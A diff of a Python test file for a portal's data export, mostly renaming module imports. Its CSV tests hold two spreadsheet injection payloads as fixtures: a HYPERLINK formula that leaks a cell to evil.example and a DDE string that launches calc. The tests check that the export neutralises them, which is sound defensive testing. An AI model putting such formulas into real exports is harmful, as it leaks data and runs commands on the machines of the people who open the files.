@@ -6,11 +6,11 @@ import json
 import yaml
 from helpers import FIXTURES, ROOT
 
-from macros import model
-from macros.cli import main as portal
-from macros.export import csv_text, export_files
-from macros.index import PortalIndex
-from macros.schema import schema_texts
+from macros.data import model
+from macros.cli.commands import main as portal
+from macros.publish.export import csv_text, export_files
+from macros.data.index import PortalIndex
+from macros.publish.schema import schema_texts
 
 
 def test_csv_has_a_header_and_one_row_per_record_with_site_ids(portal):
@@ -79,7 +79,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Nacka")'
 def _index_with_partner(tmp_path, as_written: str, note: str) -> PortalIndex:
     import shutil
 
-    from macros.portal import load_portal
+    from macros.data.dataset import load_portal
     data = tmp_path / "data"
     shutil.copytree(FIXTURES / "minimal", data)
     path = data / "districts" / "kadikoy.yaml"
@@ -98,7 +98,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostr
     assert row["partner.as_written"] == "'" + FORMULA
     assert row["note"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
     assert row["country"] == "SE" and row["partner.name"] == "Nacka"  # ordinary cells unchanged
-    from macros.export import _inert
+    from macros.publish.export import _inert
     for start in ("=", "+", "-", "@", "\t", "\r"):
         assert _inert(f"{start}1") == f"'{start}1"
     # The JSON keeps the data as written.
